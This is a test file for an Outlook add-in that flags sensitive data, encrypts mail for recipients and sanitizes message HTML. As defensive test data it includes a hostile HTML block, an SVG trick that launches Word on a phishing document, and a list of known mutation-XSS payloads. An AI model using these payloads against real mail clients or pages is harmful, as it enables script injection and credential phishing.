// The Outlook compose pane in Debian's Chromium, against the real server (with the test OpenID
// provider's tokens and the organisation's dictionary published through the admin API), the
// real wasm core, and the TEST DOUBLE of Office.js (office-double.js) keeping the message being
// written or read. Alice checks a message (findings with their place and the words around
// them), then protects it for Bob; Bob opens it in his read pane, Carol (not a recipient)
// cannot. Screenshots go to target/screenshots/outlook/.
import assert from 'node:assert/strict';
import { mkdirSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { launchChromium } from '../support/chromium.mjs';
import { DICTIONARY } from '../support/mail-corpus.mjs';
import { openPane, waitStatus } from '../support/pane.mjs';
import { TARGET, WASM_PKG } from '../support/paths.mjs';
import { publishDictionary, startWorld } from '../support/world.mjs';

const addin = createRequire(import.meta.url)(join(WASM_PKG, 'node', 'addin_wasm.js'));
const SHOTS = join(TARGET, 'screenshots', 'outlook');
const BOB = 'bob@fabrikam.example';
const HTML = '<p>Hello Bob,</p><p>Card <b>4556 7375 8689 9855</b> for the order.</p><p>IBAN FR14 2004 1010 0505 0001 3M02 606</p>';

let world;
const tokens = {};
let server;
let browser;

before(async () => {
  world = await startWorld();
  server = world.server;
  Object.assign(tokens, world.tokens);
  await publishDictionary(world, DICTIONARY);
  browser = await launchChromium();
  mkdirSync(SHOTS, { recursive: true });
});

after(async () => {
  await browser?.close();
  await world?.stop();
});

const compose = (mail) => openPane(browser, server.url, { host: 'Outlook', token: tokens.alice, mail });

test('alice checks a message: each finding with its category, place and the words around it', async () => {
  const { page, problems } = await compose({ subject: 'Projet Orion: budget', html: HTML, to: [BOB] });
  assert.equal(await page.isVisible('#app'), false, 'no Word tabs in Outlook');
  await page.click('#check');
  const status = await waitStatus(page, /found|Nothing/);
  assert.equal(status, '3 sensitive items found. Remove these before sending, or protect the message.');
  const items = await page.$$eval('#findings li', (l) => l.map((e) => ({
    label: e.querySelector('strong').textContent,
    where: e.querySelector('.muted').textContent,
    found: e.querySelector('mark').textContent,
    context: e.querySelector('.context').textContent,
  })));
  assert.deepEqual(items, [
    { label: 'Secret projects', where: ' — in the subject', found: 'Projet Orion',
      context: 'Projet Orion: budget' },
    { label: 'Payment card numbers', where: ' — body, line 2', found: '4556 7375 8689 9855',
      context: 'Hello Bob, Card 4556 7375 8689 9855 for the order. IBAN FR14 2004 1010…' },
    { label: 'Bank accounts', where: ' — body, line 3', found: 'FR14 2004 1010 0505 0001 3M02 606',
      context: '…7375 8689 9855 for the order. IBAN FR14 2004 1010 0505 0001 3M02 606' },
  ]);
  await page.screenshot({ path: join(SHOTS, '1-checked.png'), fullPage: true });
  assert.deepEqual(problems, []);
  await page.close();
});

test('alice protects the message for its recipients; bob\'s key opens it', async () => {
  const { page, problems } = await compose({ subject: 'Order', html: HTML, to: [BOB], cc: ['Alice@Contoso.example'] });
  await page.click('#protect-message');
  assert.equal(await waitStatus(page, /Protected|Add/), `Protected for ${BOB}, alice@contoso.example. Send it as usual.`);
  await page.screenshot({ path: join(SHOTS, '2-protected.png'), fullPage: true });
  const mail = await page.evaluate(() => window.__officeDouble.mail);
  const jwe = /<pre data-textguard="1">([^<]+)<\/pre>/.exec(mail.html)?.[1];
  assert.ok(jwe, mail.html);
  assert.doesNotMatch(mail.html, /4556|FR14/, 'nothing of the body is left in clear');
  // The check now finds nothing in the body.
  await page.click('#check');
  assert.equal(await waitStatus(page, /found|Nothing/), 'Nothing sensitive found.');
  assert.deepEqual(problems, []);
  await page.close();

  const { keyId, docId } = addin.inspectEnvelope(jwe);
  const answer = await (await fetch(`${server.url}/v1/keys/unwrap`, {
    method: 'POST',
    headers: { authorization: `Bearer ${tokens.bob}`, 'content-type': 'application/json' },
    body: JSON.stringify({ keyIds: [keyId] }),
  })).json();
  const key = Buffer.from(answer.results[0].key, 'base64url');
  const opened = addin.decryptRange(jwe, new Uint8Array(key), { docId, rangeId: 'body' });
  assert.equal(opened.format, 'html');
  assert.equal(opened.content, HTML);
});

test('a message without recipients is not protected, and says why', async () => {
  const { page } = await compose({ subject: 'Draft', html: HTML, to: [] });
  await page.click('#protect-message');
  assert.equal(await waitStatus(page, /recipients/), 'Add the recipients first: the message is encrypted for them.');
  assert.equal((await page.evaluate(() => window.__officeDouble.mail)).html, HTML);
  await page.close();
});

/** Alice's message, protected for Bob in her compose pane: the body Outlook would send. */
async function protectedForBob(html = HTML) {
  const { page } = await compose({ subject: 'Order', html, to: [BOB] });
  await page.click('#protect-message');
  await waitStatus(page, /Protected/);
  const sent = await page.evaluate(() => window.__officeDouble.mail.html);
  await page.close();
  return sent;
}

const read = (token, html) =>
  openPane(browser, server.url, { host: 'Outlook', token, mail: { mode: 'read', subject: 'Order', html, from: 'alice@contoso.example', to: [BOB] } });

// What a sender could put in a body to act in the reader's pane: all of it is taken out.
const HOSTILE = '<meta http-equiv="refresh" content="0;url=https://phish.example/">'
  + '<style onload="parent.document.title = \'owned\'">p { margin: 0 }</style>'
  + '<script>parent.document.title = "owned"</script>'
  + '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onerror="parent.document.title = \'owned\'" alt="pixel">'
  + '<a href="javascript:parent.document.title = \'owned\'">script link</a> <a href="https://example.com/doc">the document</a>'
  + '<form action="https://phish.example/"><input name="password"></form>';

/**
 * The problems of a page that sanitized hostile markup, less the pane's own policy blocking what
 * that markup asked for: DOMPurify parses it in an inert document that inherits the pane's
 * Content-Security-Policy, so an `onerror` or a `<base>` there is refused and logged before it
 * is removed. Those lines show the second layer holding; anything else is a problem.
 */
const beyondPolicy = (problems) =>
  problems.filter((p) => !/violates the following Content Security Policy directive.*The action has been blocked\.$/s.test(p));

test('bob opens the protected message in his read pane; it shows as alice wrote it, without scripts', async () => {
  // Outlook may wrap the envelope's long line when it turns the body into text.
  const html = (await protectedForBob(HTML + HOSTILE)).replace(/(<pre[^>]*>)(.*)(<\/pre>)/s, (_, open, jwe, close) =>
    `${open}${jwe.replace(/.{76}/g, '$&\n')}${close}`);
  const { page, problems } = await read(tokens.bob, html);
  assert.equal(await page.isVisible('#outlook'), false, 'no compose view when reading');
  assert.equal(
    await waitStatus(page, /Opened|cannot/),
    'Opened for you: the key server released its key to you, one of its recipients.',
  );
  const frame = await (await page.$('#message')).contentFrame();
  await frame.waitForSelector('b');
  assert.equal(await frame.textContent('b'), '4556 7375 8689 9855');
  assert.doesNotMatch(await page.getAttribute('#message', 'sandbox'), /allow-scripts|allow-same-origin|allow-top/, 'a sandbox without scripts');
  assert.match(await page.getAttribute('#message', 'srcdoc'), /default-src 'none'/);
  // Nothing active is left of what the sender wrote; the web link opens in a new window.
  assert.deepEqual(await frame.$$eval('script, form, input, meta[http-equiv="refresh"], [onerror], [onload]', (l) => l.length), 0);
  assert.equal(await frame.$$eval('style', (l) => l.map((e) => e.textContent).join('')), 'p { margin: 0 }', 'styles kept, as text');
  assert.deepEqual(await frame.$$eval('a', (l) => l.map((a) => [a.textContent, a.getAttribute('href'), a.target])), [
    ['script link', null, ''],
    ['the document', 'https://example.com/doc', '_blank'],
  ]);
  assert.notEqual(await page.title(), 'owned');
  await page.screenshot({ path: join(SHOTS, '3-read-by-bob.png'), fullPage: true });
  assert.deepEqual(beyondPolicy(problems), []);
  await page.close();
});

// The attack the review ran: SVG animation sets an href with a non-web scheme on a link that
// opens outside the frame; one click launched Word on a document of the sender's choosing.
const SVG_LAUNCH = '<p>See the plan:</p><svg width="200" height="40"><a target="_blank">'
  + '<set attributeName="href" to="ms-word:ofe|u|https://phish.example/plan.docx"/>'
  + '<animate attributeName="href" values="ms-word:ofe|u|https://phish.example/plan.docx"/>'
  + '<text x="4" y="20">Open the plan</text></a></svg>';

test('the SVG animation that launched ms-word: is taken out; the pane says who owns the key', async () => {
  const { page, problems } = await read(tokens.bob, await protectedForBob(HTML + SVG_LAUNCH));
  await waitStatus(page, /Opened|cannot/);
  const frame = await (await page.$('#message')).contentFrame();
  await frame.waitForSelector('b');
  assert.deepEqual(await frame.$$eval('svg, set, animate, text, a', (l) => l.map((e) => e.localName)), [], 'no SVG, no animation, no link left');
  assert.match(await frame.textContent('body'), /See the plan:/);
  assert.equal(await page.textContent('#message-owner'), 'Protected by alice@contoso.example (the owner of its key, as the key server knows them).');
  assert.equal(await page.isVisible('#message-owner'), true);
  await page.screenshot({ path: join(SHOTS, '4-svg-taken-out.png'), fullPage: true });
  assert.deepEqual(problems, []);
  await page.close();
});

// Mutation XSS: markup that a sanitizer passes and that becomes active when the browser parses
// the sanitizer's output again (as the frame does). From public advisories against sanitizers.
const MXSS = [
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<a href="jav&#x09;ascript:alert(1)">tab</a><a href=" javascript:alert(1)">space</a><a href="JaVaScRiPt:alert(1)">case</a>',
  '<a href="ms-word:ofe|u|https://phish.example/x.docx">word</a><a href="file:///etc/passwd">file</a><a href="data:text/html,<script>alert(1)</script>">data</a>',
  '<a href="https://example.com/" target="_top" ping="https://tracker.example/">top</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x.swf"></object><embed src="x.swf">',
  '<base href="https://phish.example/"><meta http-equiv="refresh" content="0;url=https://phish.example/"><link rel="stylesheet" href="https://tracker.example/a.css">',
  '<form action="https://phish.example/"><input name="password"><button formaction="https://phish.example/">Sign in</button></form>',
  '<img src=x onerror=alert(1)//',
  '<div onclick="alert(1)" onmouseover="alert(1)">hover</div><details open ontoggle=alert(1)>',
  '<template><script>alert(1)</script></template><noembed><img src=x onerror=alert(1)></noembed>',
  '<select><template><style><img src=x onerror=alert(1)></style></template></select>',
  '<table><caption><svg><title><img src=x onerror=alert(1)></title></svg></caption></table>',
];

test('known mutation-XSS payloads leave nothing active, and a second pass changes nothing', async () => {
  const { page, problems } = await read(tokens.bob, HTML);
  const findings = await page.evaluate(async (payloads) => {
    const { sanitized } = await import('/taskpane/sanitize.js');
    const active = (html) => {
      const doc = new DOMParser().parseFromString(html, 'text/html');
      const found = [];
      for (const el of doc.querySelectorAll('*')) {
        if (/^(script|svg|math|iframe|frame|object|embed|form|input|button|base|meta|link|set|animate|template|noscript|noembed)$/.test(el.localName)) found.push(el.localName);
        for (const { name, value } of el.attributes) {
          if (name.startsWith('on') || ['srcdoc', 'formaction', 'action', 'ping', 'xlink:href'].includes(name)) found.push(`${el.localName}[${name}]`);
          if (name === 'href' && !/^(https?|mailto):/i.test(value)) found.push(`href=${value}`);
          if (name === 'target' && value !== '_blank') found.push(`target=${value}`);
        }
      }
      return found;
    };
    return payloads.map((p) => {
      const once = sanitized(p);
      return { p, once, active: active(once), stable: sanitized(once) === once };
    });
  }, MXSS);
  for (const { p, once, active, stable } of findings) {
    assert.deepEqual(active, [], `${p}\n-> ${once}`);
    assert.equal(stable, true, `${p}\n-> ${once}`);
  }
  // The link that stays opens outside, without a referrer; the rest keep their text.
  const links = findings[11].once;
  assert.match(links, /href="https:\/\/example.com\/"/);
  assert.match(links, /target="_blank"/);
  assert.match(links, /rel="noopener noreferrer"/);
  assert.match(findings[9].once, /tab.*space.*case/);
  assert.deepEqual(beyondPolicy(problems), []);
  await page.close();
});

test('a web link opens as an ordinary page (why the frame lets popups leave its sandbox)', async () => {
  const target = `${server.url}/healthz`;
  const { page, problems } = await read(tokens.bob, await protectedForBob(`<p><a href="${target}">Service status</a></p>`));
  await waitStatus(page, /Opened|cannot/);
  const frame = await (await page.$('#message')).contentFrame();
  const popup = page.waitForEvent('popup');
  await frame.click('a');
  const opened = await popup;
  await opened.waitForLoadState();
  assert.equal(opened.url(), target);
  // Without allow-popups-to-escape-sandbox the page would run sandboxed: an opaque origin, no
  // scripts, no storage, which breaks most sites a mail links to.
  assert.equal(await opened.evaluate(() => window.origin), new URL(server.url).origin);
  assert.equal(await opened.evaluate(() => window.opener), null, 'noopener');
  await opened.close();
  assert.deepEqual(problems, []);
  await page.close();
});

test('carol, not a recipient, is told she has no access; a plain message has nothing to open', async () => {
  const html = await protectedForBob();
  const { page } = await read(tokens.carol, html);
  assert.equal(
    await waitStatus(page, /Opened|cannot/),
    'This message cannot be opened: you do not have access (ask its owner to add you).',
  );
  assert.equal(await page.isVisible('#message'), false);
  await page.close();

  const plain = await read(tokens.bob, HTML);
  assert.equal(await waitStatus(plain.page, /Opened|nothing/), 'This message is not protected by Textguard: there is nothing to open.');
  await plain.page.close();
});
